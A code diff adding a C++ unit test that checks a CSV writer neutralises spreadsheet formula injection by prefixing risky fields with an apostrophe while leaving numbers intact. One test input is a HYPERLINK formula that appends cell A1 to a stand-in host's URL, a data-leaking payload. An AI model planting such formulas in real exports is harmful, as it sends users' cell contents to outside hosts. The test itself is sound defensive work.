@@ -76,6 +76,37 @@ TEST(CsvRecord, SectionThenFieldsInTheLocalesStyle) {
     }
 }
 
+TEST(CsvField, TextThatASpreadsheetWouldRunIsMarkedAsTextNumbersStayNumbers) {
+    const pointsfile::CsvStyle point = pointsfile::csvStyleForDecimalMark('.');
+    const pointsfile::CsvStyle comma = pointsfile::csvStyleForDecimalMark(',');
+    const struct {
+        std::string field;
+        pointsfile::CsvStyle style;
+        std::string written;
+    } rows[] = {
+        {"=1+1", point, "'=1+1"},
+        {"+A1", point, "'+A1"},
+        {"-A1", comma, "'-A1"},
+        {"@SUM(A1)", point, "'@SUM(A1)"},
+        {"\tx", point, "'\tx"},
+        {"\rx", comma, "\"'\rx\""},
+        {"-0.50", comma, "-0,50"},
+        {"+7", point, "+7"},
+        {"-", point, "'-"},
+        {"-1234567890123456", point, "'-1234567890123456"},  // too long for a number
+        {"x=1", point, "x=1"},
+        {"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", point,
+         "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\""},
+        {"=1,5", point, "\"'=1,5\""},
+        {"=1,5", comma, "'=1,5"},
+        {"=1;5", comma, "\"'=1;5\""},
+        {"@\xB5m", comma, "'@\xC2\xB5m"},
+    };
+    for (const auto& row : rows) {
+        EXPECT_EQ(pointsfile::csvField(row.field, row.style), row.written) << row.field;
+    }
+}
+
 TEST(PressTime, RecordAndNamesCarryTheLocalTime) {
     const pointsfile::LocalTime afternoon{2026, 12, 7, 14, 15, 3, 60};
     EXPECT_EQ(pointsfile::isoLocalTime(afternoon), "2026-12-07T14:15:03+01:00");
